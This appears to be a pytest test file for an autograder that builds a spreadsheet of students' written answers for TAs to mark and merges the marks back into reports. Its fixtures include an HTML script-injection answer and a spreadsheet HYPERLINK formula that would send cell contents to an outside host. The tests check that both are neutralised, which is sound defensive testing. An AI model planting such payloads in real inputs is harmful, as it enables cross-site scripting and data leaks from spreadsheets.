"""Written answers: a sheet a TA can mark, merged back into every report, never a lost mark."""

import csv
import json
import shutil
from pathlib import Path

import pytest
from scenarios import MNIST, MNIST_SOLUTION, ROOT

from aekit.cli import main as aekit
from autograder import batch, written
from autograder.assignments import get_assignment
from autograder.sandbox import Limits

ASSIGNMENT = get_assignment(MNIST)
RELEASE = ROOT / "release" / MNIST / f"{MNIST}.ipynb"
QUESTIONS = [question.grade_id for question in ASSIGNMENT.questions]


def place(folder: Path, student: str, notebook: Path | dict = MNIST_SOLUTION) -> Path:
    path = folder / student / MNIST / f"{MNIST}.ipynb"
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(notebook, dict):
        path.write_text(json.dumps(notebook))
    else:
        shutil.copy(notebook, path)
    return path


def answered(text: str, question: str = "q_sigmoid") -> dict:
    """The solution notebook with ``question`` answered by ``text``."""
    notebook = json.loads(MNIST_SOLUTION.read_text())
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == question:
            cell["source"] = text
    return notebook


def sheet_rows(out: Path) -> list[dict]:
    with (out / written.SHEET).open(newline="") as handle:
        return list(csv.DictReader(handle))


def save(rows: list[dict], path: Path) -> Path:
    with path.open("w", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path


def graded(reference, submitted: Path, out: Path):
    rows = batch.grade_all(
        submitted, out, reference, limits=Limits(check_seconds=10.0), progress=False
    )
    return {row.student: row for row in rows}


@pytest.fixture(scope="module")
def marked_class(tmp_path_factory, reference):
    """ada answers everything, bea nothing (the release), cid one answer in hostile HTML."""
    root = tmp_path_factory.mktemp("written")
    place(root / "in", "ada")
    place(root / "in", "bea", RELEASE)
    place(root / "in", "cid", answered("<script>alert(1)</script> the sigmoid keeps it in (0, 1)"))
    graded(reference, root / "in", root / "out")
    return root


def test_the_sheet_lists_every_answer_with_its_question_and_model_answer(marked_class):
    rows = sheet_rows(marked_class / "out")
    assert [(row["question"], row["student_id"]) for row in rows] == [
        (question, student) for question in QUESTIONS for student in ("ada", "bea", "cid")
    ]
    first = rows[0]
    assert first["prompt"].startswith("**Question 1 (1 point).**")
    assert "sigmoid" in first["model_answer"] and first["max_points"] == "1"
    bea = [row for row in rows if row["student_id"] == "bea"]
    assert {(row["status"], row["points"], row["comment"]) for row in bea} == {
        ("empty", "0", written.EMPTY_COMMENT)
    }
    ada = [row for row in rows if row["student_id"] == "ada"]
    assert {(row["status"], row["points"]) for row in ada} == {("pending", "")}


def test_pending_answers_are_said_in_every_report(marked_class):
    out = marked_class / "out"
    results = json.loads((out / "ada" / "results.json").read_text())
    assert results["score"] == 21
    assert results["extra_data"]["max_score"] == ASSIGNMENT.total_points == 25
    assert results["extra_data"]["written"]["pending"] == 4
    assert "4 points not marked yet" in results["output"]
    assert (
        "4 points of written answers not marked yet" in (out / "ada" / "feedback.html").read_text()
    )
    assert "ada,21,25,21,0,4,graded" in (out / "grades.csv").read_text()


def test_a_marked_sheet_reaches_results_feedback_and_grades(marked_class, tmp_path, capsys):
    out = tmp_path / "out"
    shutil.copytree(marked_class / "out", out)
    rows = sheet_rows(out)
    for row in rows:
        if row["student_id"] == "ada":
            row["points"], row["comment"] = "1", "Right: <b>a probability</b>."
        if row["student_id"] == "cid" and row["question"] == "q_sigmoid":
            row["points"], row["comment"] = "0.5", "Say why the logs need it."
    sheet = save(rows, tmp_path / "marked.csv")
    command = ["grade", MNIST, str(marked_class / "in"), "--out", str(out), "--quiet"]
    assert aekit([*command, "--written", str(sheet)]) == 0
    printed = capsys.readouterr()
    assert "5 marks merged" in printed.err
    lines = (out / "grades.csv").read_text().splitlines()
    assert "ada,25,25,21,4,0,graded" in lines
    assert "cid,21.5,25,21,0.5,3,graded" in lines
    feedback = (out / "ada" / "feedback.html").read_text()
    assert (
        "Right: &lt;b&gt;a probability&lt;/b&gt;." in feedback
        and "<b>a probability" not in feedback
    )
    assert "Question 1: Why does the decoder end with a sigmoid?" in feedback
    cid = json.loads((out / "cid" / "results.json").read_text())
    assert cid["score"] == 21.5 and cid["extra_data"]["written"]["pending"] == 3
    assert "alert(1)" not in (out / "cid" / "feedback.html").read_text()  # answers are not shown
    # The regenerated sheet holds the marks, so the TA goes on from where they were.
    again = {(row["question"], row["student_id"]): row for row in sheet_rows(out)}
    assert again[("q_sigmoid", "cid")]["points"] == "0.5"
    assert again[("q_sigmoid", "cid")]["status"] == "marked"


def test_a_wrong_sheet_is_refused_whole_with_every_bad_row(marked_class, tmp_path, capsys):
    out = tmp_path / "out"
    shutil.copytree(marked_class / "out", out)
    rows = sheet_rows(out)
    rows[0]["points"] = "1"  # a good mark, which must not be merged either
    rows[1]["points"] = "2"  # above the question's 1 point
    rows[2]["points"] = "one"
    rows.append({**rows[3], "student_id": "zoe", "points": "1"})
    rows.append({**rows[4], "question": "q_nope", "points": "1"})
    sheet = save(rows, tmp_path / "bad.csv")
    before = (out / "grades.csv").read_text()
    command = ["grade", MNIST, str(marked_class / "in"), "--out", str(out), "--quiet"]
    assert aekit([*command, "--written", str(sheet)]) == 2
    error = capsys.readouterr().err
    assert "nothing was merged" in error and "Traceback" not in error
    for said in ("row 3:", "not in 0..1", "row 4:", "not a number", "'zoe'", "'q_nope'"):
        assert said in error
    assert (out / "grades.csv").read_text() == before
    assert not list(out.glob(f"*/{written.MARKS}"))


def test_a_file_that_is_no_sheet_is_refused_in_one_line(marked_class, tmp_path, capsys):
    sheet = tmp_path / "grades.csv"
    sheet.write_text("student_id,score\nada,3\n")
    command = ["grade", MNIST, str(marked_class / "in"), "--out", str(tmp_path / "out")]
    assert aekit([*command, "--quiet", "--written", str(sheet)]) == 2
    assert "is not a written-answers sheet" in capsys.readouterr().err


def test_a_changed_answer_loses_its_mark_and_is_pending_again(reference, tmp_path):
    place(tmp_path / "in", "ada")
    graded(reference, tmp_path / "in", tmp_path / "out")
    rows = sheet_rows(tmp_path / "out")
    for row in rows:
        row["points"] = "1"
    marks = written.read_sheet(
        save(rows, tmp_path / "m.csv"), tmp_path / "out", ASSIGNMENT.questions
    )
    assert written.merge(marks, tmp_path / "out") == 4
    place(tmp_path / "in", "ada", answered("A new answer, written after the marking."))
    again = graded(reference, tmp_path / "in", tmp_path / "out")
    assert (again["ada"].score, again["ada"].max_score) == (24, 25)
    part = json.loads((tmp_path / "out" / "ada" / "results.json").read_text())
    statuses = [q["status"] for q in part["extra_data"]["written"]["questions"]]
    assert statuses == ["changed since marked", "marked", "marked", "marked"]


def test_an_answer_that_is_a_formula_is_shown_as_text_and_still_marked(reference, tmp_path):
    formula = '=HYPERLINK("http://example.invalid/?"&A1, "see")'
    place(tmp_path / "in", "ada", answered(formula))
    graded(reference, tmp_path / "in", tmp_path / "out")
    rows = sheet_rows(tmp_path / "out")
    row = next(row for row in rows if row["question"] == "q_sigmoid")
    assert row["answer"] == "'" + formula  # a spreadsheet shows it, never runs it
    row["points"] = "1"
    marks = written.read_sheet(
        save(rows, tmp_path / "m.csv"), tmp_path / "out", ASSIGNMENT.questions
    )
    assert written.merge(marks, tmp_path / "out") == 1
    assert written.student_part(tmp_path / "out" / "ada", ASSIGNMENT.questions).score == 1


def test_a_deleted_answer_cell_is_missing_and_costs_no_ta_time(reference, tmp_path):
    notebook = json.loads(MNIST_SOLUTION.read_text())
    notebook["cells"] = [
        cell
        for cell in notebook["cells"]
        if cell["metadata"].get("nbgrader", {}).get("grade_id") != "q_maps"
    ]
    place(tmp_path / "in", "ada", notebook)
    graded(reference, tmp_path / "in", tmp_path / "out")
    row = next(row for row in sheet_rows(tmp_path / "out") if row["question"] == "q_maps")
    assert (row["status"], row["points"]) == ("missing", "0")


def test_the_sheet_keeps_long_and_odd_answers_in_bounds():
    cells = [
        {
            "cell_type": "markdown",
            "metadata": {"nbgrader": {"grade_id": "q_sigmoid"}},
            "source": "x" * 10**6,
        },
        {"cell_type": "markdown", "metadata": {"nbgrader": "not a mapping"}, "source": "y"},
        {
            "cell_type": "code",
            "metadata": {"nbgrader": {"grade_id": "make_encoder"}},
            "source": [1, 2],
        },
        "not a cell",
    ]
    found = written.collect({"cells": cells}, ASSIGNMENT.questions, ASSIGNMENT.exercises)
    assert len(found["written"]["q_sigmoid"]) < written.KEPT_CHARS + 20
    assert found["written"]["q_blurry"] is None
    assert found["code"] == {"make_encoder": "12"}
    assert written.collect([], ASSIGNMENT.questions, ASSIGNMENT.exercises)["code"] == {}
